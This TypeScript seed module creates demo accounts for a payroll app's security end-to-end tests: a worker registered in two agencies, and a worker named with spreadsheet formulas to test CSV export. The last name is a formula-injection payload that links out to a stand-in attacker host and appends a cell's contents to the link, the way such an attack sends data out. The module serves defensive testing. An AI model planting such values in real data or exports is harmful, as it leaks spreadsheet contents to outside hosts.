// Accounts reserved for the security e2e specs (e2e/security): a worker
// registered in both agencies with a payslip from each, and a worker whose
// name is a spreadsheet formula with an accepted advance (CSV export). Added
// last in the plan so that the rest of the demo data stays the same.
import type { PdfEmployer } from "../../lib/pdf/payslip";
import type { DocumentJob, Plan } from "./plan";
import { addDays, calendarDay, compactDate, endOfMonth, isoDate, startOfMonth, type Random } from "./time";

export const SECURITY_E2E = {
  /** In MEDIMP (n° 9701) and EDUC31 (n° 9702), one payslip published by each agency. */
  twoAgencies: { email: "secu.deux@e2e.coop-emploi.fr", firstName: "Samia", lastName: "Deuxagences", numbers: { MEDIMP: "9701", EDUC31: "9702" } },
  /** Staff limited to one agency each (prisma/seed/data.ts). */
  staffOnlyMedimp: "lea.fabre@demo.coop-emploi.fr",
  staffOnlyEduc31: "hugo.carriere@demo.coop-emploi.fr",
  /** EDUC31 n° 9703, an accepted advance paid on 2025-03-05. */
  formula: {
    email: "secu.csv@e2e.coop-emploi.fr",
    firstName: "@SOMME(A1:A9)",
    lastName: '=HYPERLINK("https://evil.example/?v="&E2;"Cliquez")',
    number: "9703",
    payDate: "2025-03-05",
    amountEuros: 150,
  },
} as const;

type AddWorker = (w: {
  email: string;
  civility: "M" | "MME";
  firstName: string;
  lastName: string;
  street: string;
  city: "toulouse";
  phone: string;
  birthDate: Date;
  mobilityKm: number;
  familySituation: "CELIBATAIRE";
  childrenCount: number;
  numbers: Record<string, string>;
  qualifications: string[];
  clients: string[];
  createdAt: Date;
}) => { profileId: string };

export function addSecurityE2eData(ctx: {
  plan: Plan;
  rng: Random;
  today: Date;
  addWorker: AddWorker;
  agencyId: Record<string, string>;
  uploadedById: string;
  employerOf: (code: string) => PdfEmployer;
  documents: DocumentJob[];
}) {
  const createdAt = addDays(startOfMonth(ctx.today, -14), 3);
  const w = SECURITY_E2E.twoAgencies;
  const worker = ctx.addWorker({
    email: w.email,
    civility: "MME",
    firstName: w.firstName,
    lastName: w.lastName,
    street: "3 rue des Deux Agences",
    city: "toulouse",
    phone: "+33639980970",
    birthDate: new Date(Date.UTC(1991, 4, 2)),
    mobilityKm: 20,
    familySituation: "CELIBATAIRE",
    childrenCount: 0,
    numbers: { ...w.numbers },
    qualifications: [],
    clients: [],
    createdAt,
  });
  const monthStart = startOfMonth(ctx.today, -2);
  const monthEnd = endOfMonth(monthStart);
  for (const code of ["MEDIMP", "EDUC31"] as const) {
    const number = w.numbers[code];
    ctx.documents.push({
      row: {
        id: ctx.rng.id(),
        kind: "PAYSLIP",
        workerId: worker.profileId,
        agencyId: ctx.agencyId[code],
        fileName: `bulletin_${isoDate(monthStart).slice(0, 7)}.pdf`,
        number: `${number}_${compactDate(monthEnd)}`,
        periodStart: monthStart,
        periodEnd: monthEnd,
        uploadedById: ctx.uploadedById,
        createdAt: new Date(addDays(monthEnd, 9).getTime() + 9 * 3_600_000),
      },
      render: {
        kind: "payslip",
        data: {
          employer: ctx.employerOf(code),
          employee: { civility: "MME", firstName: w.firstName, lastName: w.lastName, agencyCode: code, workerNumber: number, jobTitle: "AGENT DE SERVICE LOGISTIQUE (525)" },
          periodStart: monthStart,
          periodEnd: monthEnd,
          paymentDate: addDays(monthEnd, 9),
          missions: [{ contractNumber: `SEC${number}`, clientName: "RESIDENCE JEAN XXIII", startDate: monthStart, endDate: monthEnd, minutes: 120 * 60, hourlyRateCents: 1245 }],
          incomeTaxRatePct: 0,
        },
      },
    });
  }

  const f = SECURITY_E2E.formula;
  const formulaWorker = ctx.addWorker({
    email: f.email,
    civility: "M",
    firstName: f.firstName,
    lastName: f.lastName,
    street: "4 rue du Tableur",
    city: "toulouse",
    phone: "+33639980971",
    birthDate: new Date(Date.UTC(1988, 8, 9)),
    mobilityKm: 20,
    familySituation: "CELIBATAIRE",
    childrenCount: 0,
    numbers: { EDUC31: f.number },
    qualifications: [],
    clients: [],
    createdAt,
  });
  const [y, m, d] = f.payDate.split("-").map(Number);
  const payDate = calendarDay(y, m, d);
  const requestedAt = new Date(payDate.getTime() - 2 * 86_400_000);
  ctx.plan.advanceRequests.push({
    id: ctx.rng.id(),
    workerId: formulaWorker.profileId,
    agencyId: ctx.agencyId.EDUC31,
    amountCents: f.amountEuros * 100,
    payDate,
    status: "ACCEPTED",
    refusalReason: null,
    paidOn: null,
    decidedById: ctx.uploadedById,
    decidedAt: new Date(requestedAt.getTime() + 3_600_000),
    createdAt: requestedAt,
    updatedAt: new Date(requestedAt.getTime() + 3_600_000),
  });
}
